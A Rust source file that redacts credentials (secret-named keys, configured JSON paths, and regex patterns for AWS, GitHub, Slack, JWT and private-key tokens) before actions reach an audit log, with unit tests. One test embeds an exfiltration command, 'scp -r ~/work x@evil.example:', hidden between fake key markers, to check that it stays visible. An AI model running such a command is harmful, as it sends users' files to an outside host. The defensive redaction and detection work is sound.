//! Secrets never reach the audit log. Arguments are kept because they are the evidence, but
//! credential-bearing keys, configured JSON paths and well-known token shapes are replaced
//! before storage. The entry keeps the hash of the unredacted action, so it still binds to
//! the exact action.

use regex::{Regex, RegexSet};
use serde_json::Value;

/// Keys whose values are credentials wherever they appear (compared case-insensitively).
const SECRET_KEYS: &[&str] = &[
    "authorization",
    "proxy-authorization",
    "cookie",
    "set-cookie",
    "x-api-key",
    "api-key",
    "api_key",
    "apikey",
    "x-auth-token",
    "password",
    "passwd",
    "token",
    "secret",
    "private-token",
    "private_token",
    "client_secret",
    "private_key",
    "access_token",
    "refresh_token",
    "secret_access_key",
];

/// Well-known token shapes: (name, pattern).
const TOKEN_SHAPES: &[(&str, &str)] = &[
    (
        "aws_access_key",
        r"\b(?:AKIA|ASIA|AGPA|AIDA|AROA)[0-9A-Z]{16}\b",
    ),
    (
        "aws_secret_key",
        r"(?i)aws_secret_access_key\s*[=:]\s*[A-Za-z0-9/+=]{40}",
    ),
    ("github_token", r"\bgh[pousr]_[A-Za-z0-9]{36,255}\b"),
    ("github_pat", r"\bgithub_pat_[A-Za-z0-9_]{22,255}\b"),
    ("slack_token", r"\bxox[abposr]-[A-Za-z0-9-]{10,}"),
    (
        "slack_webhook",
        r"https://hooks\.slack\.com/services/[A-Za-z0-9/_-]+",
    ),
    ("google_api_key", r"\bAIza[0-9A-Za-z_-]{35}\b"),
    ("api_key", r"\bsk-(?:ant-|proj-)?[A-Za-z0-9_-]{20,}"),
    ("stripe_key", r"\b[rs]k_live_[0-9A-Za-z]{24,}\b"),
    (
        "jwt",
        r"\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}",
    ),
    ("bearer_token", r"(?i)\bbearer\s+[A-Za-z0-9._~+/=-]{8,}"),
    // Only real key material: a body of the PEM alphabet (base64, whitespace and
    // the `Proc-Type:`/`DEK-Info:` header lines), so text between two markers that is not a
    // key (a command hidden from an approver) stays visible.
    (
        "private_key",
        r"-----BEGIN [A-Z ]{0,40}PRIVATE KEY-----[A-Za-z0-9+/=\s:,.-]*?-----END [A-Z ]{0,40}PRIVATE KEY-----",
    ),
    // A key's opening line alone: a key cut short (or sent in pieces) is still key material.
    // After `private_key`, so a whole block is redacted as one.
    (
        "private_key_header",
        r"-----BEGIN [A-Z ]{0,40}PRIVATE KEY-----",
    ),
    // Credentials in a URL query string (`?token=…`, `&api_key=…`).
    (
        "query_secret",
        r"(?i)[?&](?:token|secret|password|passwd|private[-_]token|api[-_]?key|access[-_]token|refresh[-_]token|client[-_]secret|sig|signature)=[^&#\s'\x22]+",
    ),
    (
        "url_credentials",
        r"\b[a-z][a-z0-9+.-]*://[^\s:/@]+:[^\s@/]+@",
    ),
];

pub const REDACTED: &str = "[REDACTED]";

/// The names of the built-in token shapes found in `s` (`github_token`, `aws_access_key`, …),
/// for facts that say a value carries a credential.
pub fn token_shapes_in(s: &str) -> Vec<&'static str> {
    static SHAPES: std::sync::OnceLock<Option<RegexSet>> = std::sync::OnceLock::new();
    let Some(set) = SHAPES.get_or_init(|| RegexSet::new(TOKEN_SHAPES.iter().map(|(_, p)| *p)).ok())
    else {
        return Vec::new();
    };
    set.matches(s).iter().map(|i| TOKEN_SHAPES[i].0).collect()
}

#[derive(Debug, thiserror::Error)]
#[error("redaction pattern {name:?} is not a valid regex: {source}")]
pub struct RedactError {
    pub name: String,
    #[source]
    pub source: regex::Error,
}

pub struct Redactor {
    keys: Vec<String>,
    paths: Vec<Vec<String>>,
    set: RegexSet,
    patterns: Vec<(String, Regex)>,
}

impl Redactor {
    /// The built-in rules plus `extra_keys`, `paths` (dotted, `*` matches any key or index)
    /// and `extra_patterns` (name, regex).
    pub fn new(
        extra_keys: &[String],
        paths: &[String],
        extra_patterns: &[(String, String)],
    ) -> Result<Redactor, RedactError> {
        let mut patterns = Vec::new();
        let shapes = TOKEN_SHAPES
            .iter()
            .map(|(n, p)| (n.to_string(), p.to_string()))
            .chain(extra_patterns.iter().cloned());
        for (name, pattern) in shapes {
            let re = Regex::new(&pattern).map_err(|source| RedactError {
                name: name.clone(),
                source,
            })?;
            patterns.push((name, re));
        }
        let set = RegexSet::new(patterns.iter().map(|(_, re)| re.as_str())).map_err(|source| {
            RedactError {
                name: "(all)".into(),
                source,
            }
        })?;
        Ok(Redactor {
            keys: SECRET_KEYS
                .iter()
                .map(|k| k.to_string())
                .chain(extra_keys.iter().map(|k| k.to_ascii_lowercase()))
                .collect(),
            paths: paths
                .iter()
                .map(|p| p.split('.').map(str::to_string).collect())
                .collect(),
            set,
            patterns,
        })
    }

    /// Redact in place; returns the dotted paths of every value that was changed.
    pub fn redact(&self, value: &mut Value) -> Vec<String> {
        let mut changed = Vec::new();
        for path in &self.paths {
            redact_path(value, path, &mut String::new(), &mut changed);
        }
        self.walk(value, &mut String::new(), &mut changed);
        changed.sort();
        changed.dedup();
        changed
    }

    fn walk(&self, value: &mut Value, path: &mut String, changed: &mut Vec<String>) {
        match value {
            Value::Object(map) => {
                for (k, v) in map.iter_mut() {
                    let len = push_segment(path, k);
                    // `keys` are lowercase: no lowercased copy of every key walked.
                    let secret = self.keys.iter().any(|s| s.eq_ignore_ascii_case(k));
                    if secret && !is_redacted(v) {
                        *v = Value::String(REDACTED.into());
                        changed.push(path.clone());
                    } else {
                        self.walk(v, path, changed);
                    }
                    path.truncate(len);
                }
            }
            Value::Array(items) => {
                for (i, v) in items.iter_mut().enumerate() {
                    let len = push_segment(path, itoa::Buffer::new().format(i));
                    self.walk(v, path, changed);
                    path.truncate(len);
                }
            }
            Value::String(s) => {
                if let Some(clean) = self.redact_str(s) {
                    *s = clean;
                    changed.push(path.clone());
                }
            }
            _ => {}
        }
    }

    /// The string with every token shape replaced, or `None` when it holds none.
    pub fn redact_str(&self, s: &str) -> Option<String> {
        // Almost every string holds no token: a plain match test is cheaper than collecting
        // which patterns match, which is only needed for the rest.
        if !self.set.is_match(s) {
            return None;
        }
        let hits = self.set.matches(s);
        if !hits.matched_any() {
            return None;
        }
        let mut out = s.to_string();
        for i in hits.iter() {
            let (name, re) = &self.patterns[i];
            out = re
                .replace_all(&out, format!("[REDACTED:{name}]").as_str())
                .into_owned();
        }
        Some(out)
    }
}

fn is_redacted(v: &Value) -> bool {
    v.as_str() == Some(REDACTED)
}

fn push_segment(path: &mut String, seg: &str) -> usize {
    let len = path.len();
    if !path.is_empty() {
        path.push('.');
    }
    path.push_str(seg);
    len
}

fn redact_path(value: &mut Value, rest: &[String], at: &mut String, changed: &mut Vec<String>) {
    let Some((head, tail)) = rest.split_first() else {
        if !is_redacted(value) {
            *value = Value::String(REDACTED.into());
            changed.push(at.clone());
        }
        return;
    };
    match value {
        Value::Object(map) => {
            for (k, v) in map.iter_mut() {
                if head == "*" || head == k {
                    let len = push_segment(at, k);
                    redact_path(v, tail, at, changed);
                    at.truncate(len);
                }
            }
        }
        Value::Array(items) => {
            for (i, v) in items.iter_mut().enumerate() {
                let idx = i.to_string();
                if head == "*" || *head == idx {
                    let len = push_segment(at, &idx);
                    redact_path(v, tail, at, changed);
                    at.truncate(len);
                }
            }
        }
        _ => {}
    }
}

/// Audit entries hold only integers that every JSON implementation reads exactly (|n| ≤ 2^53):
/// their hashes are over RFC 8785 JSON, which writes numbers as IEEE doubles. Any other
/// number (a fraction, or an integer too large for a double) is kept as its decimal string.
pub fn integers_only(value: &mut Value) {
    const EXACT: u64 = 1 << 53;
    match value {
        Value::Number(n) => {
            let exact = n.as_u64().is_some_and(|u| u <= EXACT)
                || n.as_i64().is_some_and(|i| i.unsigned_abs() <= EXACT);
            if !exact {
                *value = Value::String(n.to_string());
            }
        }
        Value::Object(map) => map.values_mut().for_each(integers_only),
        Value::Array(items) => items.iter_mut().for_each(integers_only),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn redactor() -> Redactor {
        Redactor::new(
            &["x-tenant-secret".into()],
            &[
                "action.params.db.password_hint".into(),
                "action.params.list.*.pin".into(),
            ],
            &[("ticket".into(), r"TICKET-\d{6}".into())],
        )
        .unwrap()
    }

    #[test]
    fn secret_keys_paths_and_token_shapes_are_redacted() {
        let mut v = json!({"action": {"http": {"headers": {
            "Authorization": "Basic dXNlcjpwYXNz", "Cookie": "sid=1", "X-Tenant-Secret": "s",
            "accept": "application/json"}},
          "params": {
            "command": "curl -H 'Authorization: Bearer abcdefghijklmnop' https://x",
            "env": "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
            "note": "token ghp_0123456789abcdefghijklmnopqrstuvwxyz and xoxb-1234567890-abcdef",
            "db": {"password_hint": "blue", "host": "db1"},
            "list": [{"pin": 1234, "name": "a"}],
            "ref": "TICKET-123456",
            "count": 3}}});
        let changed = redactor().redact(&mut v);
        let h = &v["action"]["http"]["headers"];
        assert_eq!(h["Authorization"], REDACTED);
        assert_eq!(h["Cookie"], REDACTED);
        assert_eq!(h["X-Tenant-Secret"], REDACTED);
        assert_eq!(h["accept"], "application/json");
        let p = &v["action"]["params"];
        assert_eq!(
            p["command"],
            "curl -H 'Authorization: [REDACTED:bearer_token]' https://x"
        );
        assert_eq!(p["env"], "AWS_ACCESS_KEY_ID=[REDACTED:aws_access_key]");
        assert_eq!(
            p["note"],
            "token [REDACTED:github_token] and [REDACTED:slack_token]"
        );
        assert_eq!(p["db"]["password_hint"], REDACTED);
        assert_eq!(p["db"]["host"], "db1");
        assert_eq!(p["list"][0]["pin"], REDACTED);
        assert_eq!(p["list"][0]["name"], "a");
        assert_eq!(p["ref"], "[REDACTED:ticket]");
        assert_eq!(p["count"], 3);
        assert!(
            changed.contains(&"action.params.list.0.pin".to_string()),
            "{changed:?}"
        );
        assert!(changed.contains(&"action.http.headers.Authorization".to_string()));
        assert_eq!(changed.len(), 9, "{changed:?}");
    }

    #[test]
    fn clean_values_are_untouched() {
        let mut v = json!({"a": "ls -la /tmp", "b": [1, "two"], "c": {"d": null}});
        let before = v.clone();
        assert!(redactor().redact(&mut v).is_empty());
        assert_eq!(v, before);
    }

    #[test]
    fn private_keys_and_url_credentials() {
        let r = redactor();
        let pem = "x -----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY----- y";
        assert_eq!(r.redact_str(pem).unwrap(), "x [REDACTED:private_key] y");
        assert_eq!(
            r.redact_str("git clone https://bob:hunter2@example.com/r")
                .unwrap(),
            "git clone [REDACTED:url_credentials]example.com/r"
        );
    }

    #[test]
    fn secret_named_keys_and_query_strings_are_redacted() {
        let r = redactor();
        let mut v = json!({"token": "t1", "Secret": "s1", "private-token": "p1", "api_key": "k1",
                           "apikey": "k2", "password": "pw", "tokens_used": 12, "name": "x"});
        r.redact(&mut v);
        for k in [
            "token",
            "Secret",
            "private-token",
            "api_key",
            "apikey",
            "password",
        ] {
            assert_eq!(v[k], REDACTED, "{k}");
        }
        assert_eq!(v["tokens_used"], 12);
        assert_eq!(v["name"], "x");
        assert_eq!(
            r.redact_str("GET https://api.example.com/v1?user=a&token=abc123&API_KEY=zz#x")
                .unwrap(),
            "GET https://api.example.com/v1?user=a[REDACTED:query_secret][REDACTED:query_secret]#x"
        );
    }

    #[test]
    fn text_between_key_markers_that_is_not_a_key_stays_visible() {
        let r = redactor();
        let hidden = "echo -----BEGIN RSA PRIVATE KEY----- ; scp -r ~/work x@evil.example: ; echo -----END RSA PRIVATE KEY-----";
        // Only the opening line is taken out: the command between the markers stays readable.
        assert_eq!(
            r.redact_str(hidden).unwrap(),
            "echo [REDACTED:private_key_header] ; scp -r ~/work x@evil.example: ; echo -----END RSA PRIVATE KEY-----"
        );
        let pem = "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00FF\n\nMIIEow+/=\n-----END RSA PRIVATE KEY-----";
        assert_eq!(r.redact_str(pem).unwrap(), "[REDACTED:private_key]");
    }

    #[test]
    fn bad_pattern_is_an_error_naming_it() {
        let err = Redactor::new(&[], &[], &[("broken".into(), "(".into())])
            .err()
            .unwrap();
        assert!(err.to_string().contains("broken"));
    }

    #[test]
    fn floats_become_strings() {
        let mut v = json!({"a": 1.5, "b": [2, -3, 1e300], "c": 7,
            "big": u64::MAX, "edge": 9007199254740993u64, "max": 9007199254740992u64,
            "neg": i64::MIN});
        integers_only(&mut v);
        assert_eq!(
            v,
            json!({"a": "1.5", "b": [2, -3, "1e+300"], "c": 7,
            "big": "18446744073709551615", "edge": "9007199254740993", "max": 9007199254740992u64,
            "neg": "-9223372036854775808"})
        );
    }
}
